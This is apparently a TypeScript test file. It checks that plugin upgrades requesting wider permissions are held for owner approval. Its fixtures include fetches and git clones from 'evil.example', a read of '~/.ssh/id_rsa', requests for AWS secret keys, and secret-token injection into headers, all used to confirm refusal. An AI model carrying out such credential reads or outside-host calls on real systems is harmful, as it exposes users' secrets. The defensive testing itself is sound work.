import assert from "node:assert/strict";
import type { UpgradeManifest } from "@oa/shared/generated/types.ts";
import { AUTHOR, manifestBy, publish } from "../fakes/signed-upgrade.ts";
import { attackClass } from "./attack.ts";
import { inWorld } from "./install-world.ts";

const honest = manifestBy(AUTHOR);
const narrow = ["network:egress:api.example", "tool:invoke:http.request"];
const ask = (permissions: NonNullable<UpgradeManifest["permissions"]>) => ({
  permissions: { network: ["api.example"], tools: ["http.request"], ...permissions },
});
const post = { op: "http.request", id: "post", method: "POST", url: "https://api.example/" } as const;
/** Updates that may more than what runs. */
const WIDER: Readonly<Record<string, Partial<UpgradeManifest>>> = {
  "another host": ask({ network: ["api.example", "evil.example"] }),
  "every host below": ask({ network: ["api.example", "*.example"] }),
  "another port": ask({ network: ["api.example", "api.example:8443"] }),
  "a folder": ask({ filesystem: [{ path: "~/Documents/**", access: "read" }] }),
  "everything in the home folder": ask({ filesystem: ["~/**"] }),
  "a tool": ask({ tools: ["http.request", "fs.write"] }),
  "an environment variable": ask({ env: ["AWS_SECRET_ACCESS_KEY"] }),
  programs: ask({ process: true }),
  money: ask({ spend: { sats: 1, period: "month" } }),
  "public notes": ask({ events: [1] }),
  "a secret": ask({ secrets: [{ name: "TOKEN", host: "api.example" }] }),
  "a secret it does not declare": {
    pipeline: [{ ...honest.pipeline[0], op: "http.request", headers: { a: "${secrets.TOKEN}" } }],
  },
  "a host that it does not declare": { pipeline: [{ op: "http.request", id: "fetch", url: "https://evil.example/" }] },
  "a folder that it does not declare": { pipeline: [{ op: "fs.read", id: "read", path: "~/.ssh/id_rsa" }] },
  "a repository that it does not declare": {
    pipeline: [{ op: "git.clone", id: "c", repo: "https://evil.example/x", dest: "~/x" }],
  },
};

attackClass("permission widening by update", ({ harmless, works }) => {
  for (const [what, change] of Object.entries(WIDER)) {
    const next = manifestBy(AUTHOR, { version: "1.0.1", ...change });
    harmless(`${what}, ordered by a paired coordinator`, () =>
      inWorld(async (world) => {
        await world.send(world.orderOf(honest, publish(honest)));
        await world.send(world.orderOf(next, publish(next), { revision: 2 }));
        const install = world.install();
        assert.equal(install?.active?.upgrade_version, "1.0.0", "what runs is what ran");
        assert.deepEqual(install?.grant, narrow);
        assert.equal(install?.pending?.upgrade_version, "1.0.1", "the rest waits for the owner");
        assert.ok((install?.approval_reasons ?? []).length > 0);
      }),
    );
    harmless(`${what}, with the old hash of permissions`, () =>
      inWorld(async (world) => {
        const published = publish(honest);
        await world.send(world.orderOf(honest, published));
        const { permission_hash } = world.orderOf(honest, published);
        await world.send(world.orderOf(next, publish(next), { revision: 2, permission_hash }));
        assert.deepEqual([world.install()?.active?.upgrade_version, world.install()?.grant], ["1.0.0", narrow]);
      }),
    );
    harmless(`${what}, approved by the hash of something else`, () =>
      inWorld(async (world) => {
        const published = publish(honest);
        await world.send(world.orderOf(honest, published));
        const { permission_hash } = world.orderOf(honest, published);
        await world.send(world.orderOf(next, publish(next), { revision: 2 }));
        assert.ok(world.owner({ type: "approve", permission_hash, grant: [] }) !== null, "refused");
        assert.deepEqual([world.install()?.active?.upgrade_version, world.install()?.grant], ["1.0.0", narrow]);
      }),
    );
  }
  for (const permission of ["process:spawn", "env:read:HOME", "secret:use:TOKEN@api.example"]) {
    harmless(`${permission}, although the coordinator's ceiling names it`, () => {
      const wide: Partial<UpgradeManifest> =
        permission === "process:spawn"
          ? ask({ process: true })
          : permission.startsWith("env")
            ? ask({ env: ["HOME"] })
            : ask({ secrets: [{ name: "TOKEN", host: "api.example" }] });
      const manifest = manifestBy(AUTHOR, wide);
      return inWorld(
        async (world) => {
          await world.send(world.orderOf(manifest, publish(manifest)));
          assert.deepEqual([world.install()?.status, world.install()?.active], ["pending", null]);
        },
        [...narrow, permission],
      );
    });
  }

  works("an update within what was granted is taken", () =>
    inWorld(async (world) => {
      await world.send(world.orderOf(honest, publish(honest)));
      const next = manifestBy(AUTHOR, {
        version: "1.0.1",
        pipeline: [...honest.pipeline, { ...honest.pipeline[0], op: "http.request", id: "again" }],
      });
      assert.equal(await world.send(world.orderOf(next, publish(next), { revision: 2 })), null);
      assert.deepEqual([world.install()?.active?.upgrade_version, world.install()?.grant], ["1.0.1", narrow]);
    }),
  );
  works("a paired coordinator orders up to its ceiling", () => {
    const wide = manifestBy(AUTHOR, ask({ network: ["api.example", "other.example"] }));
    return inWorld(
      async (world) => {
        assert.equal(await world.send(world.orderOf(wide, publish(wide))), null);
        assert.equal(world.install()?.status, "enabled");
      },
      [...narrow, "network:egress:other.example"],
    );
  });
  works("a write that is declared is ordered like the rest", () => {
    const writes = manifestBy(AUTHOR, { pipeline: [post] });
    return inWorld(async (world) => {
      assert.equal(await world.send(world.orderOf(writes, publish(writes))), null);
      assert.equal(world.install()?.status, "enabled");
    });
  });
});
